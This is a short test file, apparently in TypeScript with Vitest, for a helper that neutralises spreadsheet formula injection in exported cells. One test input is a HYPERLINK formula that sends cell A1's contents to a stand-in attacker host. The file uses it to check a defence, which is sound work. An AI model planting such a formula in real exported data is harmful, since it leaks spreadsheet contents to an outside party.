import { describe, expect, it } from "vitest";
import { inertCell } from "./spreadsheet-cells";

describe("an exported cell", () => {
  it.each(['=HYPERLINK("http://evil/?"&A1,"x")', "+55 11 91234-5678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])(
    "that a spreadsheet would take for a formula gets a leading quote: %j",
    (text) => {
      expect(inertCell(text)).toBe(`'${text}`);
    },
  );

  it.each(["Joaquim Ações", "5", "10:00", "", "a=b", "'já citado"])("stays as it is otherwise: %j", (text) => {
    expect(inertCell(text)).toBe(text);
  });

  it("keeps numbers, negative ones included, as numbers", () => {
    expect(inertCell(-3)).toBe(-3);
    expect(inertCell(42)).toBe(42);
  });
});
